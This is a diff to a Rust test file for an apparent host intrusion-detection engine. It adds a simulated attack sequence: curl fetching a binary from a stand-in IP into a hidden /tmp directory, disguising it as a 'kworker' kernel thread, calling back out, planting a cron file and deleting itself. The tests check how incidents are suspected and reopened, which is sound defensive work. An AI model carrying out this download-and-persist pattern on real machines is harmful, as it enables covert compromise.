@@ -220,6 +220,48 @@ fn an_incident_that_ends_by_itself_is_watched_and_the_watch_ends() {
     assert_eq!((new == id, action, reason), (false, AlertAction::IncidentOpened, AlertReason::NewSuspect));
 }
 
+/// A program that is suspected, and no more, because of its names and places.
+fn suspected(day: &mut Watch) {
+    let shell = day.shell();
+    let curl =
+        day.host.spawn(shell, "/usr/bin/curl", &["curl", "-o", "/tmp/.x/kworker", "http://203.0.113.9/x"]);
+    day.host.connect(curl, "203.0.113.9:80");
+    day.host.create(curl, "/tmp/.x/kworker", 0o755);
+    day.host.exit(curl);
+    let program = day.host.spawn(shell, "/tmp/.x/kworker", &["[kworker/0:1]"]);
+    day.host.connect(program, "203.0.113.9:443");
+    day.host.create(program, "/etc/cron.d/z", 0o644);
+    day.host.wait(seconds(2));
+    day.host.exit(program);
+    day.host.delete(shell, "/tmp/.x/kworker");
+    day.host.exit(shell);
+}
+
+#[test]
+fn who_was_only_suspected_has_to_show_something_unless_a_person_asked() {
+    for is_asked in [false, true] {
+        let mut day = Watch::new();
+        suspected(&mut day);
+        let (id, ..) = day.told()[0];
+        assert_eq!(day.engine.incidents(None)[0].1, Some(Verdict::Suspected));
+        if is_asked {
+            day.clean(id).expect("nothing runs");
+        } else {
+            day.wait(DAY + 3_700);
+        }
+        day.told();
+        let shell = day.shell();
+        let harmless = day.host.spawn(shell, "/tmp/.x/kworker", &["kworker"]);
+        day.host.exit(harmless);
+        let told = day.told();
+        assert_eq!(!told.is_empty(), is_asked, "{told:?}");
+        if !is_asked {
+            suspected(&mut day);
+            assert_eq!(day.told()[0], (id, AlertAction::IncidentOpened, AlertReason::Returned));
+        }
+    }
+}
+
 #[test]
 fn an_incident_may_return_more_than_once() {
     let (mut day, id) = Watch::cleaned();
